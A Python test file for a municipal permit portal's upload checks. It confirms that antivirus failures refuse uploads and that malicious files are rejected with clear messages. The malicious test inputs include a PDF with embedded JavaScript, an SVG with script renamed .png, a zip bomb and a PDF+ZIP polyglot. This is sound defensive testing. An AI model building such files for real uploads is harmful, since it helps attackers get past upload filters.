def test_a_scanner_that_cannot_scan_refuses_the_upload(settings, trouble):
    """Fail closed: an upload that could not be scanned is not accepted."""
    settings.MUNIS_VIRUS_SCANNER = "documents.antivirus.ClamdScanner"
    settings.MUNIS_CLAMD_HOST, settings.MUNIS_CLAMD_TIMEOUT = "127.0.0.1", 0.5
    server = None
    if trouble == "nobody listens":
        settings.MUNIS_CLAMD_PORT = _closed_port()
    elif trouble == "no such socket":
        settings.MUNIS_CLAMD_SOCKET = "/nonexistent/clamd.sock"
    else:
        server = FakeClamd(silent=trouble == "no answer", limit=100 if trouble == "stream too long" else None)
        settings.MUNIS_CLAMD_PORT = server.port
    try:
        error = refused("site_plan.pdf", pdf())
    finally:
        if server:
            server.close()
    assert (error.code, error.message, error.status) == ("scanner_unavailable", SCANNER_DOWN, 503)


class RefusesEverything:
    def scan(self, file):
        assert file.read(5) == b"%PDF-"
        raise antivirus.VirusFound("Test.Everything")


class Broken:
    def scan(self, file):
        raise RuntimeError("scanner bug")


def test_any_scanner_plugs_in_by_dotted_path(settings):
    settings.MUNIS_VIRUS_SCANNER = f"{__name__}.RefusesEverything"
    error = refused("site_plan.pdf", pdf())
    assert error.message == "“site_plan.pdf” contains a virus (Test.Everything) and is refused."


@pytest.mark.parametrize("path", [f"{__name__}.Broken", "no.such.Scanner"])
def test_a_broken_or_missing_scanner_refuses_the_upload(settings, path):
    settings.MUNIS_VIRUS_SCANNER = path
    assert refused("site_plan.pdf", pdf()).code == "scanner_unavailable"


def test_without_a_scanner_configured_nothing_is_scanned(settings):
    settings.MUNIS_VIRUS_SCANNER = None
    accepted("site_plan.pdf", with_eicar())


# --- over HTTP -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "content", "message"), [
    pytest.param("site_plan.pdf", pdf(object_stream([b"<</S/JavaScript/JS(app.alert(1))>>"])),
                 active("/JavaScript"), id="JavaScript in an object stream"),
    pytest.param("site_plan.png", SVG_WITH_SCRIPT, SVG_REFUSED.format("site_plan.png"), id="SVG renamed .png"),
    pytest.param("site_plan.pdf", declared_bomb(), ZIP_BOMB.format("site_plan.pdf"), id="zip bomb renamed .pdf"),
    pytest.param("site_plan.pdf", pdf(tail=ZIP_PAYLOAD), POLYGLOT.format("site_plan.pdf"), id="PDF + ZIP"),
])
def test_a_citizen_applying_with_a_malicious_file_is_told_why_and_nothing_is_filed(client, people, name, content,
                                                                                   message):
    client.force_login(people.citizen)
    files = {"site_plan": SimpleUploadedFile(name, content, content_type="application/pdf"),
             "architectural_design": SimpleUploadedFile("design.pdf", pdf()),
             "ownership": SimpleUploadedFile("deed.pdf", pdf())}
    response = client.post(reverse("eservices:apply", args=["building-permit"]), apply_payload(files=files))
    assert response.status_code == 400
    assert field_error_shown(response, "doc_site_plan", message), page(response)[-3000:]
    assert not Application.objects.exists()


def test_a_citizen_is_told_to_try_again_when_the_scanner_is_down(client, people, settings):
    settings.MUNIS_VIRUS_SCANNER = "documents.antivirus.ClamdScanner"
    settings.MUNIS_CLAMD_HOST, settings.MUNIS_CLAMD_PORT = "127.0.0.1", _closed_port()
    client.force_login(people.citizen)
    response = client.post(reverse("eservices:apply", args=["building-permit"]), apply_payload())
    assert response.status_code == 503  # not the citizen's fault: "try again later", for people and for clients
    assert field_error_shown(response, "doc_site_plan", "could not be checked for viruses. Please try again later.")
    assert PERMIT_DATA["site_address"] in page(response)  # what they typed is still in the form
    assert not Application.objects.exists()
